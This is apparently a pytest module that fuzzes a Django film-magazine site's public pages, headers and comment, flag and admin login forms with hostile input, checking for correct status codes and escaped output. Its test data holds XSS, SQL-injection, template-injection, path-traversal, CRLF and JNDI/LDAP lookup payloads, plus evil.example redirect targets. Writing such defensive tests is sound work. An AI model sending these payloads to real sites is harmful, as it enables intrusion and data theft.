"""Hostile input on every public URL and form: garbage and overlong values, unicode digits,
invalid UTF-8, NUL bytes, huge posts, repeated parameters, and the comment form driven by
Hypothesis. No case may answer 500; each answers the status it should, and nothing a reader
sent comes back as markup.

Every URL pattern outside the admin must be walked here (the first test fails when one is
added without a sample). The number of cases sent is printed in pytest's closing summary.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import quote, unquote, urlencode

import pytest
from django.core.cache import cache
from django.middleware.csrf import _get_new_csrf_string
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from taggit.models import Tag

from films.models import Film, Genre, Person
from picks.comments import comment_page_number
from picks.forms import sign_form_start
from picks.models import AuthorProfile, Comment, Post, Section
from picks.search import MAX_QUERY_LENGTH, clean_query
from tests.factories import make_comment, make_post, make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("demo_magazine", "fresh_cache")]

CASES: Counter[str] = Counter()


class _CaseCountReport:
    """Adds the number of cases to pytest's closing summary."""

    def pytest_terminal_summary(self, terminalreporter) -> None:
        kinds = ", ".join(f"{kind} {count}" for kind, count in sorted(CASES.items()))
        terminalreporter.write_line(f"Hostile input: {CASES.total()} cases ({kinds}).")


@pytest.fixture(scope="module", autouse=True)
def report_case_count(request):
    yield
    if CASES and not request.config.pluginmanager.has_plugin("hostile-input-count"):
        request.config.pluginmanager.register(_CaseCountReport(), "hostile-input-count")


# What the walk sends ------------------------------------------------------------------------

MARKUP = '<script>alert("hostile")</script>'
ATTRIBUTE_BREAKOUT = '"><img src=x onerror=alert(1)>'
# Named values, so a failure says which one.
HOSTILE_VALUES: dict[str, str] = {
    "empty": "",
    "spaces": "   ",
    "markup": MARKUP,
    "attribute breakout": ATTRIBUTE_BREAKOUT,
    "sql": "' OR 1=1 --",
    "template": "{{ settings.SECRET_KEY }}{% debug %}",
    "path traversal": "../../../../etc/passwd",
    "javascript url": "javascript:alert(1)",
    "data url": "data:text/html,<svg onload=alert(1)>",
    "jndi": "${jndi:ldap://198.51.100.1/a}",
    "format": "%s%s%n%x",
    "nul": "\x00",
    "nul inside": "la\x00la",
    "control": "\x01\x08\x1b[31m\x7f",
    "crlf": "a\r\nSet-Cookie: x=1",
    "arabic-indic digits": "٣",
    "fullwidth digits": "１２",
    "superscript digit": "²",
    "mathematical digit": "𝟙",
    "roman numeral": "Ⅻ",
    "negative": "-1",
    "zero": "0",
    "huge number": "9" * 30,
    "too many digits for int()": "9" * 5000,
    "float": "1.5",
    "exponent": "1e309",
    "nan": "NaN",
    "underscored number": "1_000",
    "emoji": "🎬🍿",
    "right-to-left override": "\u202egnp.exe",
    "byte order mark": "\ufeff1",
    "replacement character": "\ufffd",
    "overlong": "x" * 5000,
    "overlong unicode": "é" * 3000,
}
# Sent raw in the query string, as a scanner would: invalid UTF-8 and percent-encoding.
RAW_QUERY_VALUES: dict[str, str] = {
    "invalid utf-8": "%FF%FE%FD",
    "overlong utf-8 slash": "%C0%AF",
    "utf-16 surrogate as utf-8": "%ED%A0%80",
    "truncated utf-8": "%E2%82",
    "bare percent": "%",
    "broken percent": "%G1%2",
    "raw latin-1 byte": b"\xe9".decode("latin-1"),
    "encoded nul": "%00",
}


def as_int(value: str) -> int | None:
    """What Python's int() makes of a query value, as the views and Django's paginator do."""
    try:
        return int(value)
    except ValueError:
        return None


def page_status(value: str) -> int:
    """core.mixins.PageMixin: a whole number from 1 (past the end shows the last page), else 404;
    an empty value is the first page."""
    number = as_int(value or "1")
    return 200 if number is not None and number >= 1 else 404


def sitemap_page_status(value: str) -> int:
    """Django's sitemap view: ?p= must name an existing page; the demo's sitemap has one."""
    return 200 if as_int(value) == 1 else 404


def search_status(param: str) -> Callable[[str], int]:
    def status(value: str) -> int:
        if param == "type":
            return 200 if value in {"", "posts", "films", "people"} else 400
        if param == "q":
            return 400 if len(clean_query(value)) > MAX_QUERY_LENGTH else 200
        return page_status(value) if param == "page" else 200

    return status


def always(status: int) -> Callable[[str], int]:
    return lambda value: status


@dataclass(frozen=True)
class Page:
    """A public URL pattern with a sample address and the query parameters it reads."""

    name: str
    path: str
    params: dict[str, Callable[[str], int]]
    head: int = 200  # what HEAD answers

    @property
    def reads_query(self) -> bool:
        return set(self.params) != {"utm_source"}


def public_pages() -> list[Page]:
    post = Post.objects.published().order_by("pk").first()
    section = Section.objects.public().order_by("pk").first()
    tag = Tag.objects.filter(slug__in=post.tags.values("slug")).first()
    film = Film.objects.public().order_by("pk").first()
    person = Person.objects.public().order_by("pk").first()
    author = AuthorProfile.objects.order_by("pk").first()
    paged = {"page": page_status}
    ignored = {"utm_source": always(200)}
    return [
        Page("picks:home", reverse("picks:home"), ignored),
        Page(
            "picks:post_detail",
            post.get_absolute_url(),
            {"comments_page": always(200), "reply_to": always(200), **ignored},
        ),
        Page("picks:section_detail", section.get_absolute_url(), paged),
        Page("picks:tag_detail", reverse("picks:tag_detail", args=[tag.slug]), paged),
        Page("picks:author_detail", author.get_absolute_url(), paged),
        Page(
            "picks:search",
            reverse("picks:search"),
            {param: search_status(param) for param in ("q", "type", "page")},
        ),
        Page(
            "picks:comment_tokens",
            reverse("picks:comment_tokens", args=[post.slug]),
            ignored,
            head=405,  # a fresh token pair is fetched, never probed
        ),
        Page("picks:feed_rss", reverse("picks:feed_rss"), ignored),
        Page("picks:feed_atom", reverse("picks:feed_atom"), ignored),
        Page(
            "picks:section_feed_rss",
            reverse("picks:section_feed_rss", args=[section.slug]),
            ignored,
        ),
        Page(
            "picks:section_feed_atom",
            reverse("picks:section_feed_atom", args=[section.slug]),
            ignored,
        ),
        # Browse: a filter it cannot use is ignored (and named above the results), never an error.
        Page(
            "films:film_list",
            reverse("films:film_list"),
            {
                "genre": always(200),
                "decade": always(200),
                "min_score": always(200),
                "streaming_on": always(200),
                "sort": always(200),
                **paged,
            },
        ),
        Page("films:film_detail", film.get_absolute_url(), ignored),
        Page("films:person_detail", person.get_absolute_url(), ignored),
        Page("sitemap", reverse("sitemap"), ignored),  # the index: one link per section
        Page(
            "sitemap_section",
            reverse("sitemap_section", args=["posts"]),
            {"p": sitemap_page_status},
        ),
        Page("privacy", reverse("privacy"), ignored),
        Page("picks:newsletter", reverse("picks:newsletter"), ignored),
        Page("picks:newsletter_remove", reverse("picks:newsletter_remove"), ignored),
        Page("picks:newsletter_token", reverse("picks:newsletter_token"), ignored, head=405),
        # GET only (require_GET), so HEAD is a 405: reported, not a crash.
        Page("robots_txt", reverse("robots_txt"), ignored),
        Page("healthz", reverse("healthz"), ignored),
        Page("admin:login", reverse("admin:login"), {"next": always(200)}),
        Page("admin_password_reset", reverse("admin_password_reset"), ignored),
        Page("password_reset_done", reverse("password_reset_done"), ignored),
        Page(
            "password_reset_confirm",
            reverse("password_reset_confirm", args=["MQ", "set-password"]),
            ignored,
        ),
        Page("password_reset_complete", reverse("password_reset_complete"), ignored),
    ]


def media_path() -> str:
    film = Film.objects.exclude(poster="").order_by("pk").first()
    return film.poster.url


# URL patterns reached by POST only, or walked by their own tests below.
FORM_PATTERNS = {
    "picks:comment_create",
    "picks:comment_flag",
    "media",
    # The sign-up form, and the emailed links' pages (tests/picks/test_newsletter_signup.py).
    "picks:newsletter_signup",
    "picks:newsletter_confirm",
    "picks:newsletter_unsubscribe",
    "picks:newsletter_remove_confirm",
    # The reply emails' links (tests/picks/test_reply_notifications.py).
    "picks:reply_confirm",
    "picks:reply_unsubscribe",
}


def pattern_names(patterns=None, namespace: str = "") -> Iterator[str]:
    """Every URL pattern's name (its route when it has none), the admin's own left out."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            if entry.app_name == "admin":
                continue  # staff pages: only the login (walked below) is public
            prefix = f"{entry.namespace}:" if entry.namespace else namespace
            yield from pattern_names(entry.url_patterns, prefix)
        elif isinstance(entry, URLPattern):
            yield f"{namespace}{entry.name}" if entry.name else str(entry.pattern)


# Sending and checking -------------------------------------------------------------------------


@dataclass
class Check:
    """Sends cases and collects every wrong answer, so one run lists them all."""

    client: Client
    kind: str
    failures: list[str] = field(default_factory=list)

    def expect(self, response, status: int, label: str) -> None:
        CASES[self.kind] += 1
        if response.status_code != status:
            self.failures.append(f"{label}: {response.status_code}, expected {status}")
            return
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if MARKUP.encode() in body or ATTRIBUTE_BREAKOUT.encode() in body:
            self.failures.append(f"{label}: the reader's markup came back unescaped")

    def assert_all_passed(self) -> None:
        assert self.failures == [], "\n".join(self.failures)

    def get(self, path: str, status: int, label: str, **extra) -> None:
        self.expect(self.client.get(path, **extra), status, label)

    def raw_get(self, path: str, query: str, status: int, label: str) -> None:
        """The query string as a WSGI server hands it over: bytes as latin-1, not re-encoded."""
        self.expect(self.client.generic("GET", path, QUERY_STRING=query), status, label)


@pytest.fixture
def client() -> Client:
    """A 500 comes back as a response to look at, not as the view's exception."""
    return Client(raise_request_exception=False)


@pytest.fixture
def check(client) -> Check:
    return Check(client=client, kind="pages")


def test_every_public_url_pattern_is_walked():
    walked = {page.name for page in public_pages()} | FORM_PATTERNS
    unwalked = {name for name in pattern_names() if name not in walked}
    # Staff pages outside the admin's URLconf (its "view on site" redirect) ask for a login.
    assert {name for name in unwalked if not name.startswith("admin/")} == set(), (
        "add a sample for the new URL to public_pages"
    )


def test_every_public_page_and_every_object_answers_plainly(check):
    check.kind = "plain pages"
    for page in public_pages():
        check.get(page.path, 200, page.name)
        check.expect(check.client.head(page.path), page.head, f"HEAD {page.name}")
    objects = [
        *Post.objects.published(),
        *Section.objects.public(),
        *Film.objects.public(),
        *Person.objects.public(),
    ]
    for obj in objects:
        check.get(obj.get_absolute_url(), 200, str(obj))
    for tag in Tag.objects.all():
        # A tag that only drafts carry is a 404: nothing readers can see carries it.
        seen = (
            Post.objects.published().filter(tags=tag).exists()
            or Film.objects.public().filter(tags=tag).exists()
        )
        check.get(reverse("picks:tag_detail", args=[tag.slug]), 200 if seen else 404, tag.slug)
    check.assert_all_passed()


# One root cause, in picks/post_page.py (comment_context), which the comment-security work is
# editing now: reported there rather than fixed here.


@pytest.mark.parametrize("value_name", HOSTILE_VALUES)
def test_hostile_query_values_on_every_page(check, value_name):
    check.kind = "query values"
    value = HOSTILE_VALUES[value_name]
    for page in public_pages():
        for param, status in page.params.items():
            query = urlencode({param: value})
            check.get(f"{page.path}?{query}", status(value), f"{page.name} ?{param}={value_name}")
    check.assert_all_passed()


# int() refuses more than 4,300 digits: these once gave a 500 (picks/post_page.py).
def test_reply_to_with_more_digits_than_int_reads(check):
    check.kind = "query values"
    post = Post.objects.published().order_by("pk").first()
    check.get(f"{post.get_absolute_url()}?reply_to={'9' * 5000}", 200, "reply_to")
    check.assert_all_passed()


@pytest.mark.parametrize("value_name", RAW_QUERY_VALUES)
def test_invalid_utf_8_and_broken_percent_encoding_in_query_strings(check, value_name):
    """Django decodes what it cannot read as U+FFFD, so each page answers as for junk."""
    check.kind = "raw query strings"
    raw = RAW_QUERY_VALUES[value_name]
    for page in public_pages():
        for param, status in page.params.items():
            check.raw_get(
                page.path, f"{param}={raw}", status("\ufffd"), f"{page.name} {value_name}"
            )
        check.raw_get(page.path, raw, 200, f"{page.name} bare {value_name}")
    check.assert_all_passed()


def test_repeated_and_unknown_parameters(check):
    """The last value of a repeated parameter counts, as Django's QueryDict.get says."""
    check.kind = "repeated parameters"
    for page in public_pages():
        for param, status in page.params.items():
            for values in (["1", "2"], ["x", "1"], ["1", "x"], ["", "", ""], ["1"] * 500):
                query = "&".join(f"{param}={quote(value)}" for value in values)
                label = f"{page.name} ?{query[:40]}"
                check.get(f"{page.path}?{query}", status(values[-1]), label)
        many = "&".join(f"p{number}={number}" for number in range(900))
        check.get(f"{page.path}?{many}", 200, f"{page.name} 900 unknown parameters")
        # Past DATA_UPLOAD_MAX_NUMBER_FIELDS (1,000), a page that reads its query string
        # answers 400; one that never reads it does not notice.
        many = "&".join(f"p{number}={number}" for number in range(2000))
        status = 400 if page.reads_query else 200
        check.get(f"{page.path}?{many}", status, f"{page.name} 2000 unknown parameters")
        check.get(f"{page.path}?{'a' * 20000}", 200, f"{page.name} 20 kB query string")
    check.assert_all_passed()


def test_browse_combines_every_filter_with_junk(check):
    check.kind = "browse filters"
    genre = Genre.objects.order_by("pk").first().slug
    valid = {"genre": genre, "decade": "2010", "min_score": "50", "sort": "year", "page": "1"}
    check.get(f"{reverse('films:film_list')}?{urlencode(valid)}", 200, "every filter valid")
    for name in valid:
        for value_name, value in HOSTILE_VALUES.items():
            query = urlencode({**valid, name: value})
            status = page_status(value) if name == "page" else 200
            check.get(f"{reverse('films:film_list')}?{query}", status, f"{name}={value_name}")
    check.assert_all_passed()


HOSTILE_SLUGS = {
    "unknown": "no-such-thing",
    "overlong": "a" * 5000,
    "unicode digits": quote("٣٣"),
    "dots": "..",
    "encoded slash": "a%2Fb",
    "encoded nul": "a%00b",
    "invalid utf-8": "%FF%FE",
    "markup": quote(MARKUP, safe=""),
}


def test_hostile_addresses_are_404(check):
    """Unknown slugs, characters the slug converter refuses and broken encodings: 404."""
    check.kind = "hostile paths"
    for prefix in ("/picks/", "/sections/", "/tags/", "/authors/", "/films/", "/people/"):
        for label, slug in HOSTILE_SLUGS.items():
            check.get(f"{prefix}{slug}/", 404, f"{prefix} {label}")
            if prefix == "/sections/":
                check.get(f"/sections/{slug}/rss/", 404, f"section feed {label}")
    for label, pk in {"zero": "0", "huge": "9" * 30, "unicode": quote("٣")}.items():
        check.expect(check.client.post(f"/comments/{pk}/flag/"), 404, f"flag {label}")
    for label, tail in HOSTILE_SLUGS.items():
        # The reset link's parts match anything but "/"; a bad link gets the "invalid" page.
        status = 404 if "/" in unquote(tail) else 200
        check.get(f"/reset/{tail}/{tail}/", status, f"reset {label}")
    for label, tail in HOSTILE_MEDIA_PATHS.items():
        # Django's serve() refuses a path out of MEDIA_ROOT as a suspicious operation.
        status = 400 if label in {"dots", "traversal", "encoded traversal"} else 404
        check.get(f"/media/{tail}", status, f"media {label}")
        check.expect(check.client.head(f"/media/{tail}"), status, f"HEAD media {label}")
    check.get(media_path(), 200, "a real image")
    check.assert_all_passed()


HOSTILE_MEDIA_PATHS = {
    **{label: tail for label, tail in HOSTILE_SLUGS.items() if label != "overlong"},
    "traversal": "../../config/settings/base.py",
    "encoded traversal": "..%2F..%2Fconfig%2Fsettings%2Fbase.py",
    "overlong part": "posters/" + "a" * 250,
}


# A path part longer than the file system allows once raised OSError in serve(): a 500.
def test_media_path_longer_than_the_file_system_allows(check):
    check.kind = "hostile paths"
    check.get(f"/media/{'a' * 5000}", 404, "media overlong")
    check.assert_all_passed()


def test_made_up_hosts_and_hostile_headers(check):
    check.kind = "headers"
    home = reverse("picks:home")
    for host in ("evil.example", "127.0.0.1:0@evil.example", "a" * 300, "xn--", "[::1"):
        check.get(home, 400, f"Host {host[:20]}", HTTP_HOST=host)
    post = Post.objects.published().order_by("pk").first()
    headers = {
        "garbage remember cookie": {"HTTP_COOKIE": "marquee_commenter=" + "x" * 4000},
        "garbage session cookie": {"HTTP_COOKIE": "sessionid=../../etc; csrftoken=\x00"},
        "overlong user agent": {"HTTP_USER_AGENT": "U" * 20000},
        "garbage accept-language": {"HTTP_ACCEPT_LANGUAGE": "٣;q=x,,*;q=-1," * 200},
        "garbage forwarded-for": {"HTTP_X_FORWARDED_FOR": "not an address, \x00"},
        "garbage if-modified-since": {"HTTP_IF_MODIFIED_SINCE": "yesterday-ish"},
    }
    for label, extra in headers.items():
        check.get(post.get_absolute_url(), 200, label, **extra)
        check.get(reverse("picks:feed_rss"), 200, f"feed, {label}", **extra)
        check.get(media_path(), 200, f"media, {label}", **extra)
    check.assert_all_passed()


def test_methods_the_pages_do_not_take(check):
    check.kind = "methods"
    for page in public_pages():
        for method in ("PUT", "DELETE", "PATCH", "TRACE", "BREW"):
            response = check.client.generic(method, page.path)
            CASES[check.kind] += 1
            if response.status_code >= 500:
                check.failures.append(f"{method} {page.name}: {response.status_code}")
    check.assert_all_passed()


# Forms --------------------------------------------------------------------------------------


@pytest.fixture
def commenting(settings):
    """Comments judged as a reader's would be, without waiting 3 s or meeting the rate limit."""
    settings.MARQUEE_COMMENT_MIN_SECONDS = 0
    settings.MARQUEE_COMMENT_RATE_LIMIT = {"count": 100_000, "window_seconds": 600}
    post = Post.objects.published().order_by("pk").first()
    make_comment(post=post, email="known@example.test")  # a known commenter is approved at once
    return post


def comment_form(post: Post, **overrides) -> dict[str, str]:
    """What a fresh page load's form sends (each form's timestamp sends one comment)."""
    data = {
        "name": "Mia Dolan",
        "email": "known@example.test",
        "url": "",
        "comment": "The epilogue broke my heart.",
        "started": sign_form_start(post),
        "phone": "",
        "parent": "",
    }
    data.update(overrides)
    return data


# Web addresses Django's URLValidator takes (with https:// put in front): a right-to-left
# override is a letter to it, and the address is only ever an href, never shown.
ACCEPTED_URLS = {"", "   ", "\u202egnp.exe"}


def field_status(field: str, value: str) -> int:
    """303 when the comment form takes the value (the comment is stored), else 400."""
    stripped = value.strip()
    if "\x00" in value:
        return 400
    limits = {"name": 80, "comment": 5000}
    if field in limits:
        return 303 if 0 < len(stripped) <= limits[field] else 400
    if field == "email":
        return 400  # none of the hostile values is an email address
    if field == "url":
        return 303 if value in ACCEPTED_URLS else 400
    if field == "parent":
        # Django's IntegerField takes what int() takes, and "1.0"; an unknown parent is ignored.
        number = as_int(re.sub(r"\.0*\s*$", "", value)) if value else 0
        return 303 if number is not None else 400
    if field == "started":
        return 400  # not a timestamp the site signed
    return 303  # phone: the honeypot holds it as spam, and the reader is told the same


COMMENT_FIELDS = ["name", "email", "url", "comment", "parent", "started", "phone"]


@pytest.mark.parametrize("field", COMMENT_FIELDS)
def test_comment_form_takes_or_refuses_each_hostile_value(client, commenting, field):
    post = commenting
    url = reverse("picks:comment_create", args=[post.slug])
    check = Check(client=client, kind="comment form")
    for value_name, value in HOSTILE_VALUES.items():
        data = comment_form(post, **{field: value})
        if field != "comment":
            data["comment"] = f"About {field} = {value_name}."
        check.expect(client.post(url, data), field_status(field, value), value_name)
    check.assert_all_passed()
    assert_nothing_stored_as_markup(client, post)


def test_comment_form_parent_with_more_digits_than_int_reads(client, commenting):
    post = commenting
    check = Check(client=client, kind="comment form")
    data = comment_form(post, parent="9" * 5000)
    check.expect(
        client.post(reverse("picks:comment_create", args=[post.slug]), data), 400, "parent"
    )
    check.assert_all_passed()


FORM = "application/x-www-form-urlencoded"


def test_comment_form_repeated_fields_and_odd_bodies(client, commenting):
    post = commenting
    url = reverse("picks:comment_create", args=[post.slug])
    check = Check(client=client, kind="comment form")

    def send(body: bytes | str, status: int, label: str, content_type: str = FORM) -> None:
        check.expect(client.generic("POST", url, body, content_type=content_type), status, label)

    # A repeated field: the last value counts, as QueryDict.get says.
    send(urlencode(comment_form(post)) + "&comment=Second+thoughts", 303, "comment twice")
    send(urlencode(comment_form(post)) + "&parent=x&parent=", 303, "parent twice, last empty")
    send(urlencode(comment_form(post)) + "&parent=&parent=x", 400, "parent twice, last junk")
    # Bytes that are not UTF-8 without a charset are read as U+FFFD; a declared other
    # charset is refused (core.middleware.UnreadableFormMiddleware).
    body = urlencode(comment_form(post, name="Ren")).encode()
    send(body + b"&name=Jos%E9", 303, "percent-encoded latin-1")
    send(urlencode(comment_form(post)).encode() + b"&name=Jos\xe9", 303, "raw latin-1 byte")
    send(body + b"&name=Jos\xe9", 400, "declared latin-1", FORM + "; charset=iso-8859-1")
    send(body, 303, "an unknown charset, read as UTF-8", FORM + "; charset=x-no-such-charset")
    send(b"\x00" * 1000, 400, "NUL bytes only")
    send(b"%%%&&&===", 400, "broken percent-encoding")
    send("&".join(f"f{n}=1" for n in range(1200)), 400, "more fields than Django reads")
    send(b"x" * (13 * 1024 * 1024), 400, "a 13 MB form")
    send(b'{"comment": "hi"}', 400, "JSON", "application/json")
    send(b"garbage", 400, "multipart without a boundary", "multipart/form-data")
    send(b"--b\r\ngarbage", 400, "broken multipart", "multipart/form-data; boundary=b")
    check.expect(client.post(url, comment_form(post, comment="x" * 5001)), 400, "5,001 characters")
    check.expect(client.post(url, comment_form(post, comment="é" * 5000)), 303, "5,000 é")
    check.expect(client.get(url), 302, "GET on the form's address: back to the post")
    draft = Post.objects.exclude(pk__in=Post.objects.published()).first()
    check.expect(
        client.post(reverse("picks:comment_create", args=[draft.slug]), comment_form(draft)),
        404,
        "a draft",
    )
    csrf_client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    check.client = csrf_client
    check.expect(csrf_client.post(url, comment_form(post)), 403, "no CSRF token")
    data = comment_form(post, csrfmiddlewaretoken="\x00" * 64)
    check.expect(csrf_client.post(url, data), 403, "a NUL CSRF token")
    check.assert_all_passed()


def test_flag_form_answers_every_body_plainly(client):
    comment = make_comment()
    url = reverse("picks:comment_flag", args=[comment.pk])
    check = Check(client=client, kind="flag form")
    for value_name, value in HOSTILE_VALUES.items():
        check.expect(client.post(url, {"why": value}), 303, value_name)
    # As a browser sends them, CSRF cookie and token included, so the CSRF check reads each body.
    browser = Client(enforce_csrf_checks=True, raise_request_exception=False)
    token = _get_new_csrf_string()
    browser.cookies["csrftoken"] = token
    signed = f"csrfmiddlewaretoken={token}&".encode()
    for label, body, content_type, status in (
        ("raw latin-1 byte", signed + b"why=\xff", FORM, 303),
        ("declared latin-1", signed + b"why=\xff", FORM + "; charset=iso-8859-1", 400),
        ("13 MB", signed + b"x" * (13 * 1024 * 1024), FORM, 400),
        ("1,200 fields", signed + "&".join(f"f{n}=1" for n in range(1200)).encode(), FORM, 400),
        # Nothing readable, so no token: the CSRF check refuses it.
        ("broken multipart", b"--b\r\ngarbage", "multipart/form-data; boundary=b", 403),
        ("multipart without a boundary", b"garbage", "multipart/form-data", 400),
        ("no token", b"why=1", FORM, 403),
    ):
        check.expect(browser.generic("POST", url, body, content_type=content_type), status, label)
    check.expect(client.get(url), 405, "GET")
    held = make_comment(status=Comment.Status.PENDING)
    check.expect(client.post(reverse("picks:comment_flag", args=[held.pk])), 404, "held comment")
    check.assert_all_passed()


def test_admin_login_and_password_reset_forms(client):
    """One address per case, so the login throttle and the reset limit never step in."""
    check = Check(client=client, kind="admin forms")
    login, reset = reverse("admin:login"), reverse("admin_password_reset")
    for number, (value_name, value) in enumerate(HOSTILE_VALUES.items(), start=1):
        address = f"2001:db8::{number:x}"
        username = value if len(value) <= AXES_USERNAME_LENGTH else "overlong"  # test below
        for data in (
            {"username": username, "password": value},
            {"username": "edith", "password": value},
        ):
            check.expect(client.post(login, data, REMOTE_ADDR=address), 200, f"login {value_name}")
        response = client.post(reset, {"email": value}, REMOTE_ADDR=address)
        check.expect(response, 200, f"password reset {value_name}")
    make_user(username="edith", password="a-long-test-password", is_staff=True)
    for target in ("javascript:alert(1)", "//evil.example/", "https://evil.example/", "\x00"):
        data = {"username": "edith", "password": "a-long-test-password", "next": target}
        response = client.post(login, data, REMOTE_ADDR="2001:db8::ffff")
        check.expect(response, 302, f"login with next={target!r}")
        location = response.get("Location", "")
        if not location.startswith("/") or location.startswith("//"):
            check.failures.append(f"next={target!r} sent the editor to {location}")
        client.logout()
    check.assert_all_passed()


# django-axes stores a failed login's username in a varchar(255); the login form does not limit
# its length first, so core/login_throttle.py counts it cut to 255 (once a 500 on PostgreSQL).
AXES_USERNAME_LENGTH = 255


@pytest.mark.parametrize("username", ["x" * 256, "é" * 3000], ids=["256 characters", "3,000 é"])
def test_admin_login_with_a_username_longer_than_axes_stores(client, username):
    check = Check(client=client, kind="admin forms")
    data = {"username": username, "password": "a-long-test-password"}
    check.expect(client.post(reverse("admin:login"), data), 200, "overlong username")
    check.assert_all_passed()


# The comment form under Hypothesis -------------------------------------------------------------

FRAGMENTS = [
    MARKUP,
    ATTRIBUTE_BREAKOUT,
    "</div></li></ol>",
    "<!--",
    "<![CDATA[",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "http://example.com/<b>?q=\"'",
    "https://example.com/a_(b)",
    "www.example.com",
    "mailto:a@example.com",
    "a@example.com",
    "&amp;",
    "&lt;",
    "&#x3C;script&#x3E;",
    "&",
    "\n",
    "\r\n",
    "\n\n",
    "\t",
    '"',
    "'",
    "`",
    "{{ 7|add:7 }}",
    "{% now 'Y' %}",
    "\u202e",
    "\u200b",
    "\ufeff",
    "٣",
    "𝟙",
    "🎬",
    " ",
]
reader_text = st.one_of(
    st.text(max_size=200),
    st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)), max_size=30).map("".join),
)


class _CommentReader(HTMLParser):
    """The tags inside one comment's author and text, and the text a reader sees there."""

    def __init__(self, comment_id: int) -> None:
        super().__init__()
        self.target = f"comment-{comment_id}"
        self.found = self.in_target = False
        self.depth = 0  # above 0 while inside the comment's author or text
        self.part = ""
        self.tags: list[tuple[str, dict]] = []
        self.text = {"author": "", "text": ""}

    def handle_starttag(self, tag, attrs) -> None:
        attributes = dict(attrs)
        if attributes.get("id") == self.target:
            self.found = self.in_target = True
        elif tag == "li" and attributes.get("id", "").startswith("comment-"):
            self.in_target = False  # another comment's card
        classes = set((attributes.get("class") or "").split())
        if self.in_target and not self.depth and {"comment__author", "comment__text"} & classes:
            self.part = "author" if "comment__author" in classes else "text"
            self.depth = 1
        elif self.depth:
            self.tags.append((tag, attributes))
            if tag in {"br", "p"}:
                self.text[self.part] += " "  # a line break or a paragraph separates words
            if tag != "br":
                self.depth += 1

    def handle_endtag(self, tag) -> None:
        if self.depth:
            self.depth -= 1

    def handle_data(self, data) -> None:
        if self.depth:
            self.text[self.part] += data


def words(text: str) -> str:
    return " ".join(text.split())


# What the comment's own markup may hold: paragraphs, line breaks, the name's <bdi>, and links
# the site makes (urlize), which only go to the web or to an email address.
SAFE_TAGS = {"p": set(), "br": set(), "bdi": set(), "a": {"href", "rel"}}


def assert_shown_as_text(client: Client, comment: Comment) -> None:
    Comment.objects.filter(pk=comment.pk).update(status=Comment.Status.APPROVED)
    comment.refresh_from_db()
    page = comment_page_number(comment)
    response = client.get(f"{comment.post.get_absolute_url()}?comments_page={page}")
    CASES["comment shown"] += 1
    assert response.status_code == 200
    reader = _CommentReader(comment.pk)
    reader.feed(response.content.decode())
    assert reader.found
    for tag, attributes in reader.tags:
        assert tag in SAFE_TAGS, f"<{tag}> from the reader's text"
        assert set(attributes) <= SAFE_TAGS[tag], f"<{tag} {attributes}> from the reader's text"
        if tag == "a":
            assert re.match(r"(https?|mailto):", attributes["href"]), attributes["href"]
    assert words(reader.text["text"]) == words(comment.body)
    assert words(reader.text["author"]) == words(comment.name)


def assert_nothing_stored_as_markup(client: Client, post: Post) -> None:
    for comment in Comment.objects.filter(post=post):
        assert_shown_as_text(client, comment)


@hypothesis_settings(
    max_examples=75,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=reader_text, body=reader_text)
def test_any_text_is_stored_as_sent_and_shown_escaped(client, commenting, name, body):
    post = make_post()  # a post of its own: the page shows this one comment
    cache.clear()
    data = comment_form(post, name=name, comment=body, email="known@example.test")
    response = client.post(reverse("picks:comment_create", args=[post.slug]), data)
    CASES["comment form (hypothesis)"] += 1

    expected = max(field_status("name", name), field_status("comment", body))
    assert response.status_code == expected
    if expected == 400:
        assert not Comment.objects.filter(post=post).exists()
        return
    comment = Comment.objects.get(post=post)
    assert (comment.name, comment.body) == (name.strip(), body.strip())
    assert_shown_as_text(client, comment)
